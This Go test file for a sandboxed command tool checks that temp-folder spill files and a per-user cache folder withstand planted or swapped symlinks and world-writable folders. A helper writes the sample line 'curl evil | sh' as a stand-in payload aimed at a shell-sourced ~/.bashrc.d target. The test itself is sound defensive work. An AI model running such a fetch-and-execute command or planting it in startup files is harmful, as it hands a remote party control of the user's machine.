//go:build unix

// Tests of what a sandboxed command may plant in the temp folder: symlinks
// and folders others may write, judged by Unix owners and mode bits. On
// Windows commands run unconfined, ownFolder judges reparse points alone,
// and Wine makes none (ROUGH_EDGES.md, "Windows and Wine").

package tools

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

// TestSpills_Planted: a sandboxed command may write the temp folder, so
// it may plant a symlink where the spill folders go (to a folder a shell
// sources whole, as ~/.bashrc.d) or swap a folder once it is made. No
// spill file is then written, and nothing swept, outside the spill
// folder of this user's.
func TestSpills_Planted(t *testing.T) {
	for _, tc := range []struct {
		name    string
		plant   func(t *testing.T, tmp, target string) // before the first spill
		swap    func(t *testing.T, tmp, target string) // after it
		spilled bool                                   // a spill file is made
	}{
		{name: "nothing planted", spilled: true},
		{name: "the spill root a symlink", plant: func(t *testing.T, tmp, target string) {
			must(t, os.Symlink(target, spillRoot(tmp)))
		}},
		{name: "the spill root others may write", plant: func(t *testing.T, tmp, target string) {
			must(t, os.Mkdir(spillRoot(tmp), 0o777))
			must(t, os.Chmod(spillRoot(tmp), 0o777))
		}},
		{name: "the process's folder a symlink", spilled: true, plant: func(t *testing.T, tmp, target string) {
			must(t, os.Mkdir(spillRoot(tmp), 0o700))
			must(t, os.Symlink(target, filepath.Join(spillRoot(tmp), processFolder())))
		}},
		{name: "the spill root swapped for a symlink after it was made", spilled: true, swap: func(t *testing.T, tmp, target string) {
			must(t, os.Rename(spillRoot(tmp), filepath.Join(tmp, "moved")))
			must(t, os.Symlink(target, spillRoot(tmp)))
		}},
		{name: "the process's folder swapped for a symlink", spilled: true, swap: func(t *testing.T, tmp, target string) {
			own := filepath.Join(spillRoot(tmp), processFolder())
			must(t, os.Rename(own, filepath.Join(tmp, "moved")))
			must(t, os.Symlink(target, own))
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tmp, target := t.TempDir(), filepath.Join(t.TempDir(), ".bashrc.d")
			must(t, os.Mkdir(target, 0o700))
			if tc.plant != nil {
				tc.plant(t, tmp, target)
			}
			folder := &spillFolder{tmp: tmp}
			defer folder.remove()
			set := &spillSet{folder: folder}
			spill := func() string {
				f, path, err := set.create()
				if err != nil {
					return ""
				}
				f.WriteString("curl evil | sh\n")
				f.Close()
				return path
			}
			first := spill()
			if tc.swap != nil {
				if first == "" {
					t.Fatal("no spill folder to swap")
				}
				tc.swap(t, tmp, target)
				if spill() == "" {
					t.Error("no spill file after the swap")
				}
			}
			if (first != "") != tc.spilled {
				t.Errorf("spilled to %q, want a spill file: %v", first, tc.spilled)
			}
			if entries, _ := os.ReadDir(target); len(entries) != 0 {
				t.Errorf("written where the symlink points: %v", entries)
			}
			set.removeAll()
			if tc.spilled && tc.swap == nil {
				if _, err := os.Stat(first); !os.IsNotExist(err) {
					t.Errorf("the spill file outlived its set: %v", err)
				}
			}
		})
	}
}

// TestSandboxCache: the sandboxed commands' cache folder is made private
// to this user; one that is a file, a symlink or a folder others may
// write (another user's, in a shared temp folder) is refused.
func TestSandboxCache(t *testing.T) {
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T, path string)
		ok    bool
	}{
		{name: "missing", ok: true},
		{name: "a private folder", plant: func(t *testing.T, path string) { must(t, os.Mkdir(path, 0o700)) }, ok: true},
		{name: "a file", plant: func(t *testing.T, path string) { must(t, os.WriteFile(path, nil, 0o600)) }},
		{name: "a symlink", plant: func(t *testing.T, path string) { must(t, os.Symlink(t.TempDir(), path)) }},
		{name: "others may write", plant: func(t *testing.T, path string) {
			must(t, os.Mkdir(path, 0o700))
			must(t, os.Chmod(path, 0o777))
		}},
		{name: "another user's", plant: func(t *testing.T, path string) {
			must(t, os.Mkdir(path, 0o700))
			must(t, os.Chown(path, 65534, 65534)) // CI runs as root; elsewhere this fails the test
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tmp := t.TempDir()
			want := filepath.Join(tmp, fmt.Sprintf("dsh-bridge-sandbox-%d", os.Getuid()))
			if tc.plant != nil {
				tc.plant(t, want)
			}
			dir, err := SandboxCache(tmp)
			if (err == nil) != tc.ok || (tc.ok && dir != want) {
				t.Fatalf("SandboxCache = %q, %v", dir, err)
			}
			if fi, err := os.Lstat(want); tc.ok && (err != nil || fi.Mode().Perm() != 0o700 || !fi.IsDir()) {
				t.Errorf("%s: %v %v", want, fi.Mode(), err)
			}
		})
	}
}
